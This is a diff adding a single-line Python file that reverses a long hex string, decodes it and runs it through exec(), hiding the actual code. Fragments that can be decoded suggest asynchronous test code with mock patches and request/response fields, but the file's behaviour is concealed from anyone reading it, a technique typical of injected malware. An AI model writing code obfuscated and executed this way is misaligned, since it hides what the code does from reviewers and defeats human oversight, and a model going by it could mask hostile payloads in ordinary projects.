@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09282e69616d6e2473756474796e65702020202a0a322f5f5e69616d6f5f52202d3d302f5f556d616e6f5f5026696a0a0a092222202c24757f646473782c616571754472756373716e266c656370202020202020202a0922302c25646f63682c616571754472756373716e266c656370202020202020202a0925637c61664d3465696669627566702c2d5b582e65727f5e266c6563702d302f502c24757f646473702c25646f6360202020202020202a0a39266c656378237c6961666f59756b6f5960716f54656473656a65627f5473756470266564602020202a0a092d5b502c237c6c61636e266c6563782c616571754472756373716e266c656370202020202020202a09227275646473702c2229756b602940514024696c6166702f6e42282e694472756373716e266c656370202020202020202a092222202c24757f646473782c616571754472756373716e266c656370202020202020202a0922302c25646f63682c616571754472756373716e266c656370202020202020202a0922222d39756b6f596071602c2d5b582e65727f5e266c6563702d30227275646473702c24757f646473702c25646f636020202020202020202020202a0a392922246564707d6f62707228227f6272754e6f696472756373714d3473656666656f55646963702c222475707e696e237e69647c696572622828636471607e2b636f6d602864796770202020202020202a0a39266c656378276e6964707d6f62707f54757f686479677f537c6961666f59756b6f5960716f576e696373796d6f5473756470266564602020202a0a09292224656b636f6c6025627f6473702e656b6f6472202c25637c6166402c2138323638202c292d52227f627275622b54627f636562702c2d522b6f622b54627f636562702c2d522275626d657e622b54627f63656278282c616571754472756373716e266c656370202020202020202a0924757f646473782374616f6c6e2e6f637a602d3024627f63656270202020202020202a0921302c25646f63682c616571754472756373716e266c656370202020202020202a0a09286475716d38647571602c2d522032202c22256361607d2d222b582e65727f5e266c6563702d302f502c24757f646473702c25646f6360202020202020202a09292224656b636f6c6025627f6473702e656b6f647228227f627275456d69647e65725d3473656666656f55646963782b636f6d4e2b636f6d602d30237e656b6f647f5475676e2864757160202020202020202a092d513832363b5d337275626d657e602c237c6c61636e266c65637828647571456b61664f502d302864757160202020202020202a0a39266c65637824627f6365627f516f53756d6f6365626f527f6272756f54656473656078756e657f5473756470266564602020202a0a09292222202c22256572745228202c292d52227f627275622b5d5221383236322b53777f62702c2d522b6f622b5d5221383236322b53777f6278282c616571754472756373716e266c656370202020202020202a09292224656c6961666028637562766562702e656b6f6472202c2225637c61664228202c292d52227f627275622b5d5222383236322b53777f62702c2d522b6f622b5d5222383236322b53777f6278282c616571754472756373716e266c656370202020202020202a0d727564616562702e6960277f6270227f6660277f62702a3d522275626d657e622b577f627b702d3023777f6270202020202020202a0923544c4549464f5653534e22756c6c6f60702c23756d616e646c6569666e227564616562782c616571754472756373716e266c656370202020202020202a092924757f646473782f49476e696274735e2f6968227564616562547369644e267373602d3022756461656270202020202020202a0921302c25646f63682c616571754472756373716e266c656370202020202020202a0a09286475716d38647571602c2d5226737362202c2224716d627f666d2d22202c222032202c22256361607d2d222b582e65727f5e266c6563702d302f502c24757f646473702c25646f6360202020202020202a092d523832363b5d376e696c696166602c237c6c61636e266c65637828647571456b61664f502d302864757160202020202020202a0a39266c65637824656a796c61696275637f5562716f53747e657f6363616f54656c6961666f5473756470266564602020202a0a09227275646473702c2563796f6e682e694472756373716e266c65637020202020202020202020202a0a39222b6f60237c69616475646d21647f657172202c222e2e2e2138323630227f6660237e656b6f6470276e696863756276656252202c222e297c6c65766373756363657370246564616f6c6029756b602940514228202e69602563796f6e60227f6660202020202020202a09292374627f636562702e69602270227f66602d522b6f622b52782c6c6168256572745472756373716e266c656370202020202020202a092d52383236302c213832363b502c292374627f636562702e69602270227f66602d522275626d657e622b5278246564727f63782c616571754472756373716e266c656370202020202020202a0d592823756e696c64796c60737e24757f646473702e6960256e696c60227f666029256e696c682374616f6c6e2e6f637a6b502d302374627f63656270202020202020202a0920302c25646f63682c616571754472756373716e266c656370202020202020202a0a092d522032202c22256361607d2d222b582e65727f5e266c6563702d30227275646473702c24757f646473702c25646f6360202020202020202a0a39266c6563782374627f6365627f537e6961647e6f636f597c6e6f6f54757f6464737f5473756470266564602020202a0a092825657c61667475676e227275646473702c292825657c61667475676e24757f646473702c25646f636e2e6f696470756368756e2f666e696f54796875602e627574756270202020202020202a0926776271682e69616d6e22756c6c6f60702020202020202020202020202020202a0a3f666e696f547968756023716029247968754d6564737973582375637961625472756373716e266c656370286479677020202020202020202020202a0a39227275646473702c2222727564647372202c237973782473656a626f6e28636471607e2b636f6d602c2924757f646473702c2224757f64647372202c237973782473656a626f6e28636471607e2b636f6d602864796770202020202020202a092d50202020202020202a0c292465696669627566702a39756b602164626d616c602c2229756b6f5960716f59766962756672202c22756c6c6f60782473656a626f6e28636471607e2b636f6d6020202020202020202020202a0c2929756b6f59607160227f6029222e297c6c65766373756363657370246564616f6c6029756b602940514228247e696270702a3164626d616c602c2229756b6f5960716f54616f6c62202c22756c6c6f60782473656a626f6e28636471607e2b636f6d6020202020202020202020202a0b502b202929237c6c61636e266c656378247e65696c63456b61664f50227f60247e65696c63602c29237c6c61636e266c65637828647571456b61664f50227f60286475716823756b61666f5e266c65637824727164737f5e266c656370202020202020202a09282f49476e696274735e2f69602c29282f49476e696274735e2f69602d30227275646473702c24757f64647370202020202020202a0a39256572745d3465696669627566702c2229756b622d39756b6f596071602c256e6f6e4d347e65696c63602c256e6f6e4d38647571602c26776271602c266c6563782e65727f50266564602020202a0a39256371634473756452756c6c6f6058247375645e69616d42756c6c6f60502373716c636a0a0a0921302c292d522371647f6571722b547c65737562782e656c682c616571754472756373716e266c656370202020202020202a092d5225636e616c6162622b547c6573756278256e6f6e43794472756373716e266c656370202020202020202a092224656c696166602479646562736d246e616d25636e616c616262202c2d52227f627275622b547c65737562782c616571754472756373716e266c656370202020202020202a092d522b6f622b547c657375627825637c61664472756373716e266c656370202020202020202a0a09292928227f62727544757f656d69645d327f6272756f55636e616c6162602c237c6c61636e266c656378247e65696c63456b61664f5d347e65696c63682c6c6f607f5e266c6563702d30247c6573756270202020202020202a0a39266c656378227f6272756f55636e616c61626f5473756470266564602020202a0a092d5225636e616c6162622b547c6573756278256e6f6e447f6e43794472756373716e266c656370202020202020202a092d5b502c2d522371647f6571722b547c65737562782c616571754472756373716e266c656370202020202020202a092224656c69616660237c69616475646d21647f657172202c2d52227f627275622b547c65737562782c616571754472756373716e266c656370202020202020202a092d522b6f622b547c657375627825637c61664472756373716e266c656370202020202020202a092d5225636e616c616262202c22237c69616475646d21647f657172202c22237e656b6f64722b502c2d537c6c61636e266c6563702e69602f502c2f502c256d616e60227f6660256d616e6b582c616571754472756373716e266c656370202020202020202a0a0929292224756375627228227f6272754e6f696473656e6e6f634d327f6272756f51647f6571702c237c6c61636e266c656378247e65696c63456b61664f5d347e65696c63682c6c6f607f5e266c6563702d30247c6573756270202020202020202a0a39266c65637825636e616c61626f537568636475666f5c6c6964737f527f6272756f51647f65717f5473756470266564602020202a0a092224656c6961666028637562766562702e656b6f6472202c2d52227f627275622b547c65737562782c616571754472756373716e266c656370202020202020202a092d522b6f622b547c657375627825637c61664472756373716e266c656370202020202020202a092d52237e656b6f64722b502c2d537c6c61636e266c6563702e69602f502c2f502c256d616e60227f6660256d616e6b582c616571754472756373716e266c656370202020202020202a0a09292d513832363b5d376e696c696166602c237c6c61636e266c65637828647571456b61664f5d38647571682c6c6f607f5e266c6563702d30247c6573756270202020202020202a0a39266c656378247e657f6363616f5568647f5370796b637f586375627665627f5e656b6f647f54656c6961666f5473756470266564602020202a0a092d5d70202020202020202a0c2d5d7031302a322c61647f6472202c25302a32276e696e69616d656272202c222144514442202a32256079747f5164716462202c22216d6164755021647f657b42202a32256d616e622b7b502a3223747966656e6562622020202020202020202020202a0c20303635323237363731302a3224716f54656279607875622020202020202020202020202a0c222f626d6f63402162747852202a32256d616e622020202020202020202020202a0c22213152202a3225646f636f51647f6571722020202020202020202020202a0b7b502c2d522371647f6571722b547c65737562782c616571754472756373716e266c656370202020202020202a092d70303635323237363731302a3224716f5465627960787562202c2030303231302a32276e696e69616d6562722b702c2d5225636e616c6162622b547c65737562782c616571754472756373716e266c656370202020202020202a092d52227f627275622b547c6573756278256e6f6e43794472756373716e266c656370202020202020202a092d522b6f622b547c6573756278256572745472756373716e266c656370202020202020202a0a092534303e20302c23757f6966756270702d20247e6562727573682c61657175427564716562774472756373716e266c65637020202020202020202020202a0a392d5a313b54656472716473702c246564727164737820796a702e6960247e6562727573602c23757f696675627070227f6660202020202020202a0d537c6c61636e266c6563702e69602471602c2f502c2f50227f666024716b502d302465647271647370202020202020202a092d5225636e616c616262202c22237c69616475646d21647f657172202c22237e656b6f64722b502c2d537c6c61636e266c6563702e69602f502c2f502c256d616e60227f6660256d616e6b582c616571754472756373716e266c656370202020202020202a0a0925303e203d35636160782c6c6f607f5e266c6563702d30247c6573756270202020202020202a0a39266c65637824656361607f546e616f5c6169647e65657175637f5562716f537c6c61636f5473756470266564602020202a0a092925636160702c21383236302c2229756b6228247e657f6363616f5c6c6f607e22756c6c6f60782e65727e2f69636e697371602e62757475627020202020202020202020202a0a3922247e6962707e237e69647c696572622828636471607e2b636f6d602864796770202020202020202a092929237c6c61636e266c656378247e65696c63456b61664f50227f60247e65696c63602c29237c6c61636e266c65637828647571456b61664f50227f60286475716823756b61666f5e266c65637824727164737f5e266c656370202020202020202a0a34736964602e3d2029256e6f6e4d347e65696c63602c256e6f6e4d38647571602c203e203d35636160702c266c6563782c6c6f607f50266564602020202a0a39256371634473756452756c6c6f605824737564547e657f6363614c6c6f60502373716c636a0a0a09207f64737e28636471607820757e61656c634464616e266c65637020202020202020202020202a092824727164737e28636471607020202020202020202020202a0a33756863647160702e6960286364716070227f6660202020202020202a0a3923756863647160702c266c65637824727164737f50266564602020202a0a0d50202020202020202a0c2925636e616c61626f5475676e247e65696c63602c2225636e616c61626f54756762202c236e6973716f5c6563776e656e266c6563782473656a626f6e28636471607e2b636f6d6020202020202020202020202a0c29247375657175627f5960716f546e65637e247e65696c63602c22247375657175627f5960716f546e656372202c236e6973716f5c6563776e656e266c6563782473656a626f6e28636471607e2b636f6d6020202020202020202020202a0c292d756c65746f6d6f58647571602a32286475716e256369667275637e207071622b702c23756c65746f6d6e23797378247369646e28636471607e2b636f6d6020202020202020202020202a0b502e627574756270202020202020202a08647571602d3025636e6164737e69486475714e256c65746f6d6f5864757160202020202020202a0922286475716e256369667275637e207071622825607974556c65746f6d4e2375607974702d30256c65746f6d6f5864757160202020202020202a0a39247e65696c63456b61664f502a347e65696c63602c28647571456b61664f502a38647571602c266c65637823756b61666f50266564602020202a0a0922236e6973716f5c6563776e656e247e65696c636e2070716228256c65746f6d6f54727f607d696e22696c64727f607d69602d30236e6973716f5c6563776e656e266c656370202020202020202a0d5b502d30237c6c61636e266c656370202020202020202a0a39266c656378207554756370266564602020202a0a3925637163447375645e2473756474796e6578256371634473756452756c6c6f60502373716c636a0a0a0d70303635323237363731302a3224716f5465627960787562202c2030303231302a32276e696e69616d6562722b702e627574756270202020202020202a027f6272756f55636e616c61626e266c65637025637961627020202020202020202020202a0a327f6272756f55636e616c61626e266c656370266960202020202020202a0929292823696e6f647f6e6f6d6e256d6964702c2275626d657e602c2225636e616c6162622828246e656070716e237c6c61636e266c656370202020202020202a092d513b59222d222824796c60737e2e656b6f647f546968247e69602d302275626d657e60202020202020202a0a392e656b6f647f5469602c29756b6f596071602c266c65637825636e616c61626f5475676026656460236e697371602020202a0a035c49414455444f51445f4551502e627574756270202020202020202a027f6272756f51647f65717e266c65637025637961627020202020202020202020202a0a327f6272756f51647f65717e266c656370266960202020202020202a09222b6f60237c69616475646d21647f6571722025637c6560227f6272756f51647f65717e266c65637026696022237c69616475646d21647f657170276e696c6c616360227f6272754228247e69627070202020202020202a0929292823696e6f647f6e6f6d6e256d6964702c2275626d657e602c22237c69616475646d21647f6571722828246e656070716e237c6c61636e266c656370202020202020202a092d513b59222d222824796c60737e2e656b6f647f546968247e69602d302275626d657e60202020202020202a0a392224535f40522d346f6864756d602c2e656b6f647f5469602c24616f6c697160702c28647160702c29756b6f596071602c266c656378247375657175627f5960716f546e65637026656460236e697371602020202a0a027f6272756f55636e616c6162602d30227f6272756f55636e616c61626e266c656370202020202020202a027f6272756f51647f6571702d30227f6272756f51647f65717e266c656370202020202020202a037c6c6163602d30237c6c61636e266c656370202020202020202a0a39256e6f6e4d327f6272756f55636e616c6162602c256e6f6e4d327f6272756f51647f6571702c2473796c602a337c6c6163602c266c6563782f5f54796e696f5f50266564602020202a0a0222222e2c6c6163602d61656274737075702972756675602374627f636562702b336e6973716f5c6563776e6560227f66602e696023746e616473522222202020202a0a347e65696c63456b61664f502373716c636a0a0a0d722d7275626d657e6b7d24696226602a322e656b6f647f5469622b7025637c6560276e696c6961666e266c6563702e69602275626d657e60266960256e6f6e402e627574756270202020202020202a09222e2e2e2d7275626d657e6b70227f6660237e656b6f6470276e6968637562766562522668247e69627070202020202020202a0929292823696e6f647f6e6f6d6e256d6964702c2275626d657e602c22237e656b6f64722828246e656070716e237c6c61636e266c656370202020202020202a0a392275626d657e602c266c656378237e656b6f647f54756760266564602020202a0a0222202d3029756b6f5960716e266c656370202020202020202a09276e696c69616668247563702d30276e696c6961666e266c656370202020202020202a0d537275626d657e602e69602275626d657e60227f66602d7275626d657e602a322275626d657e622b7b502d30237e656b6f647f586375627665627e266c656370202020202020202a037c6c6163602d30237c6c61636e266c656370202020202020202a0a3929282d376e696c696166602c2922383236302c21383236382d337275626d657e602c2473796c602a337c6c6163602c266c6563782f5f54796e696f5f50266564602020202a0a38647571456b61664f502373716c636a0a0a0d7a0c2d7d5d702020202a0c2d5d7031302a322c61647f6472202c25302a32276e696e69616d656272202c222144514442202a32256079747f5164716462202c22216d6164755021647f657b42202a32256d616e622b7b502a3223747966656e65626220202020202020202a0c20303635323237363731302a3224716f546562796078756220202020202020202a0c222f626d6f63402162747852202a32256d616e6220202020202020202a0c22213152202a3225646f636f51647f65717220202020202020202a0b7b502a322371647f6571722b702a322164716462202020202a0c222353554343455352202a3223757471647372202020202a0b702d30235c49414455444f51445f45515a0a02756c6c6f607024727f607d6960256369667275637e207071602d6f62766a0a0b636f6d6024727f607d69602473756474796e65702d6f62766a0473756474796e657024727f607d696a03756079747024727f607d696a056d69647024727f607d696a0379737024727f607d696a0e6f637a6024727f607d696a0f696024727f607d696a02696c64727f607d696024727f607d696a0673736024727f607d696a0f69636e6973716024727f607d696" ));